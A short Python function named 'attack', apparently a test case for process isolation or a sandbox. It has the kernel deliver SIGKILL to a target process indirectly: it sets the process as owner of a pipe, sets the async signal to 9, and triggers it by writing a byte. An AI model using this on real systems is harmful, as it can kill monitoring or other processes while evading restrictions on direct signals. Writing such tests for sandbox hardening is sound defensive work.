"""Lets the kernel send a signal for it."""


def attack(places):
    import fcntl, os
    r, w = os.pipe()
    fcntl.fcntl(r, fcntl.F_SETOWN, places['process'])
    fcntl.fcntl(r, 10, 9)
    fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)
    os.write(w, b'x')
